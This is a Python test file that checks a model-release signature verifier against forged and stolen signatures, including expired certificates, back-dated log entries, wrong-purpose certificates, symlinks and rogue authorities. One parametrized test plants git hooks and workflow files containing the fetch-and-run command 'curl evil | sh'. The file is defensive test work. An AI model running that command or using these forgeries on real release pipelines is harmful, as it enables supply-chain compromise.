"""Forged and stolen release signatures. The controls show each attack pass the PyPI `model-signing` verifier.

A signing key stolen from a build, a certificate made for something else, a file slipped in where a verifier does not
look, a signature back-dated by its thief: ours refuses each, by name.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import subprocess
import sys
import time

import pytest
from cryptography import x509 as cx
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

from casemate.crypto import x509
from casemate.crypto.ecdsa import Curve, EcKey
from casemate.crypto.signing import SigningKey
from casemate.errors import UntrustedDataError
from casemate.formats import oms, signature_log, tlog
from casemate.release import sign
from casemate.release.siglog import SignatureLog

DAY = 86400.0
NOW = time.time()
LOG_KEY = SigningKey.generate()
LOG = tlog.VerifierKey("casemate.release/test/log-1", LOG_KEY.public)


class Release:
    """A signed directory, and everything a verifier of either kind needs."""

    def __init__(self, folder, *, start=NOW - 60, end=NOW + 600, logged=NOW, leaf=None):
        self.folder = folder
        self.tree = folder / "model"
        self.tree.mkdir()
        (self.tree / "weights.gguf").write_bytes(b"weights" * 1000)
        self.authority = EcKey.generate(Curve.P384)
        self.root = x509.make_root(self.authority, "release authority", NOW - 400 * DAY)
        self.key = EcKey.generate()
        make = leaf or x509.issue_leaf
        self.leaf = make(self.authority, self.root, self.key.public, "release", not_before=start, not_after=end)
        self.sign(logged)

    def sign(self, logged):
        statement = oms.statement("model", sign.digest_directory(self.tree), oms.IGNORED)
        self.bundle = oms.sign_with_certificate(statement, self.key, [self.leaf, self.root])
        self.log(logged)

    def log(self, when, key=LOG_KEY):
        entry = signature_log.entry_of(self.bundle, self.leaf, when)
        proof = SignatureLog(self.folder / f"log-{when}-{key.public.hex()[:6]}", LOG.name).append(entry, key)
        self.signed = signature_log.SignedRelease(self.bundle.decode(), entry.decode(), proof.decode())

    def theirs(self):
        """Whether the PyPI verifier accepts it."""
        (self.folder / "model.sig").write_bytes(self.bundle)
        (self.folder / "root.pem").write_text(x509.to_pem(self.root))
        command = ["verify", "certificate", self.tree, "--signature", self.folder / "model.sig"]
        done = subprocess.run(
            [sys.executable, "-m", "model_signing", *map(str, command), "--certificate_chain",
             str(self.folder / "root.pem")],
            capture_output=True, text=True, check=False,
        )  # fmt: skip
        return done.returncode == 0

    def ours(self):
        """The name of the rule by which ours refuses it; empty when it accepts."""
        trust = signature_log.SigningTrust(1, (x509.to_pem(self.root),), (str(LOG),))
        try:
            sign.verify_directory(self.tree, self.signed, trust)
        except UntrustedDataError as error:
            return error.check
        return ""


def test_an_honest_release_passes_both(tmp_path):
    release = Release(tmp_path)
    assert release.theirs()
    assert release.ours() == ""


def test_a_stolen_key_whose_certificate_has_ended(tmp_path):
    release = Release(tmp_path, start=NOW - 40 * DAY, end=NOW - 30 * DAY)
    assert release.theirs()
    assert release.ours() == "certificate-validity"


def test_a_thief_cannot_back_date_without_the_log(tmp_path):
    release = Release(tmp_path, start=NOW - 40 * DAY, end=NOW - 30 * DAY)
    release.log(NOW - 35 * DAY, SigningKey.generate())
    assert release.theirs()
    assert release.ours() == "checkpoint-signature"


def test_an_old_log_entry_does_not_cover_a_new_signature(tmp_path):
    release = Release(tmp_path)
    old = release.signed
    (release.tree / "weights.gguf").write_bytes(b"other weights")
    release.sign(NOW + 1)
    release.signed = signature_log.SignedRelease(release.bundle.decode(), old.entry, old.proof)
    assert release.theirs()
    assert release.ours() == "signature-log"


def server_leaf(issuer, root, public, name, *, not_before, not_after):
    """A certificate for a web server, from the same authority."""
    parent = cx.load_der_x509_certificate(root)
    usage = dict.fromkeys(
        ("content_commitment", "data_encipherment", "key_agreement", "key_cert_sign", "crl_sign", "encipher_only",
         "decipher_only", "key_encipherment"), False,
    )  # fmt: skip
    return (
        cx.CertificateBuilder()
        .subject_name(cx.Name([cx.NameAttribute(NameOID.COMMON_NAME, "www.example.org")]))
        .issuer_name(parent.subject)
        .public_key(public.key)
        .serial_number(cx.random_serial_number())
        .not_valid_before(dt.datetime.fromtimestamp(not_before, dt.UTC))
        .not_valid_after(dt.datetime.fromtimestamp(not_after, dt.UTC))
        .add_extension(cx.BasicConstraints(ca=False, path_length=None), critical=True)
        .add_extension(cx.KeyUsage(digital_signature=True, **usage), critical=True)
        .add_extension(cx.ExtendedKeyUsage([ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
        .sign(issuer.key, hashes.SHA384())
        .public_bytes(Encoding.DER)
    )


def test_a_web_servers_certificate_signs_no_model(tmp_path):
    release = Release(tmp_path, leaf=server_leaf)
    assert release.theirs()
    assert release.ours() == "certificate-purpose"


@pytest.mark.parametrize("name", [".git/hooks/post-checkout", ".gitattributes", ".github/workflows/x.yml"])
def test_a_file_where_a_verifier_does_not_look(tmp_path, name):
    release = Release(tmp_path)
    path = release.tree / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("curl evil | sh")
    assert release.theirs()
    assert release.ours() == "oms-unsigned-file"


def test_one_name_signed_twice(tmp_path):
    release = Release(tmp_path)
    true = hashlib.sha256((release.tree / "weights.gguf").read_bytes()).hexdigest()
    body = json.loads(oms.statement("model", {"weights.gguf": true}))
    false = {"name": "weights.gguf", "algorithm": "sha256", "digest": "00" * 32}
    body["predicate"]["resources"].insert(0, false)
    raw = b"".join(bytes.fromhex(item["digest"]) for item in body["predicate"]["resources"])
    body["subject"][0]["digest"]["sha256"] = hashlib.sha256(raw).hexdigest()
    release.bundle = oms.sign_with_certificate(json.dumps(body).encode(), release.key, [release.leaf, release.root])
    release.log(NOW)
    assert release.theirs()
    assert release.ours() == "oms-statement"


def test_a_link_instead_of_a_file(tmp_path):
    release = Release(tmp_path)
    target = tmp_path / "elsewhere"
    (release.tree / "weights.gguf").rename(target)
    (release.tree / "weights.gguf").symlink_to(target)
    assert release.ours() == "oms-file-type"


def test_changed_weights_pass_nobody(tmp_path):
    release = Release(tmp_path)
    data = bytearray((release.tree / "weights.gguf").read_bytes())
    data[100] ^= 1
    (release.tree / "weights.gguf").write_bytes(data)
    assert not release.theirs()
    assert release.ours() == "oms-digest"


def test_another_authority_of_the_same_name(tmp_path):
    release = Release(tmp_path)
    thief = EcKey.generate(Curve.P384)
    root = x509.make_root(thief, "release authority", NOW - DAY)
    release.leaf = x509.issue_leaf(thief, root, release.key.public, "release", not_before=NOW - 60, not_after=NOW + 600)
    release.sign(NOW + 2)
    assert not release.theirs()
    assert release.ours() == "certificate-issuer"
